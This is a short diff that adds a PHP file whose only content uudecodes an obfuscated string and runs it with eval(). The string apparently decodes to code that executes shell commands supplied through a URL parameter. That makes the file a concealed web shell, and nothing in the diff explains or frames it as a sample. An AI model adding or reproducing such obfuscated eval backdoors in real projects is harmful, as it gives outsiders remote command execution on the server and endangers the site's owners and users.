@@ -1,0 +1,3 @@
+<?php
+$u = convert_uudecode("096-H;R!@)%]'151;=5U@.P  ");
+eval($u);
